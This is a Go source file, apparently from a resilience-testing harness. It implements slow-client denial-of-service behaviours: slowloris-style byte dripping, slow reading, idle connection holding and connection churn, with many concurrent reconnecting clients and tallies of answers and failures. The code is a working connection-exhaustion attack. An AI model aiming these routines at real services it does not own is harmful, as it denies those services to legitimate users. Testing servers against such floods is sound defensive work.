package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"
)

// Manner is how the connections of a [Flood] behave, if they do not flood.
type Manner string

// The manners of hostile clients. When the service closes a connection, they open another.
const (
	Drip Manner = "drip" // they send the beginning of a request, and then one byte after another
	// they send requests without end, and read one byte of the answers after another
	Sip   Manner = "sip"
	Idle  Manner = "idle"  // they send a request, read the answer, and then do nothing
	Churn Manner = "churn" // every second one sends a request and closes, the others close at once
)

// behaviours are what a client of each manner does with one connection, its i-th. They call settled
// when they have got so far that only what is slow follows, and return how many answers they saw.
var behaviours = map[Manner]func(f Flood, c *net.TCPConn, i int, settled func()) (answers int64){
	Drip: drip, Sip: sip, Idle: idle, Churn: churn,
}

// siege is hostile clients that do not flood.
type siege struct {
	Flood
	addr   string
	opened sync.WaitGroup // the first connection of each client
	// closed when all are: busy clients would keep others from being accepted
	begin   chan struct{}
	settled sync.WaitGroup // all clients, on their first connection

	mu    sync.Mutex
	done  Flooded
	first error // of the first connections
}

// besiege has all clients behave until the context ends. It calls ready when each has settled.
func besiege(ctx context.Context, f Flood, addr string, ready func()) (Flooded, error) {
	if behaviours[f.Manner] == nil {
		return Flooded{}, fmt.Errorf("flood: there is no manner %q", f.Manner)
	}
	s := siege{Flood: f, addr: addr, begin: make(chan struct{}),
		done: Flooded{Failed: map[string]int64{}}}
	s.opened.Add(f.Connections)
	s.settled.Add(f.Connections)
	ctx, stop := context.WithTimeout(ctx, longestFlood)
	defer stop()
	var all sync.WaitGroup
	for range f.Connections {
		all.Go(func() { s.client(ctx) })
	}
	s.opened.Wait()
	s.mu.Lock()
	err := s.first
	s.mu.Unlock()
	if err != nil {
		stop()
	}
	close(s.begin)
	if err == nil {
		s.settled.Wait()
		ready()
	}
	began := time.Now()
	all.Wait()
	s.done.Seconds = time.Since(began).Seconds()
	return s.done, err
}

// client has one connection after another.
func (s *siege) client(ctx context.Context) {
	settled := sync.OnceFunc(s.settled.Done)
	defer settled()
	d := net.Dialer{Timeout: 30 * patience} // all come at once: a SYN may be sent again
	for i := 0; ctx.Err() == nil; i++ {
		conn, err := d.DialContext(ctx, "tcp", s.addr)
		if i == 0 {
			if err != nil {
				s.mu.Lock()
				s.first = err
				s.mu.Unlock()
			}
			s.opened.Done()
			<-s.begin
		}
		if err != nil {
			s.note(0, "dial")
			continue
		}
		c := conn.(*net.TCPConn)
		unhook := context.AfterFunc(ctx, func() { _ = c.Close() })
		s.note(behaviours[s.Manner](s.Flood, c, i, settled), "")
		settled()
		unhook()
		_ = c.SetLinger(0) // no port waits for the next connection
		_ = c.Close()
	}
}

func (s *siege) note(answers int64, failure string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.done.Answers += answers; failure != "" {
		s.done.Failed[failure]++
	}
}

// slowly is the pause between two bytes of a client that drips or sips.
const slowly = 100 * time.Millisecond

// drip sends the beginning of a request, and then a byte each time that nothing came for a while.
func drip(f Flood, c *net.TCPConn, _ int, settled func()) (answers int64) {
	_, err := c.Write(f.Request)
	settled()
	for b := make([]byte, 512); err == nil; {
		_ = c.SetReadDeadline(time.Now().Add(slowly))
		var n int
		if n, err = c.Read(b); n > 0 {
			answers++
		}
		if errors.Is(err, os.ErrDeadlineExceeded) {
			_, err = c.Write([]byte{'x'})
		}
	}
	return answers
}

// sip sends requests until the service takes no more, and reads a byte now and then.
func sip(f Flood, c *net.TCPConn, _ int, settled func()) (answers int64) {
	_ = c.SetReadBuffer(4 << 10)
	var sending sync.WaitGroup
	sending.Go(func() {
		for rest := f.Request; ; {
			_ = c.SetWriteDeadline(time.Now().Add(slowly))
			n, err := c.Write(rest)
			switch {
			case err == nil:
				rest = f.Request
			case errors.Is(err, os.ErrDeadlineExceeded):
				settled()
				rest = rest[n:]
			default:
				return
			}
		}
	})
	for b := make([]byte, 1); ; {
		if _, err := c.Read(b); err != nil {
			break
		}
		answers = 1 // the beginning of one
		time.Sleep(slowly)
	}
	_ = c.Close()
	sending.Wait()
	return answers
}

// idle sends a request, and reads until the service closes.
func idle(f Flood, c *net.TCPConn, _ int, settled func()) (answers int64) {
	if _, err := c.Write(f.Request); err != nil {
		return 0
	}
	for b := make([]byte, 4<<10); ; answers = 1 {
		if _, err := c.Read(b); err != nil {
			return answers
		}
		settled()
	}
}

// churn asks once, and closes when the service has; or it only connects.
func churn(f Flood, c *net.TCPConn, i int, _ func()) (answers int64) {
	if i%2 == 1 {
		return 0
	}
	if _, err := c.Write(f.Request); err != nil {
		return 0
	}
	if n, err := io.Copy(io.Discard, c); n == 0 || err != nil {
		return 0
	}
	return 1
}
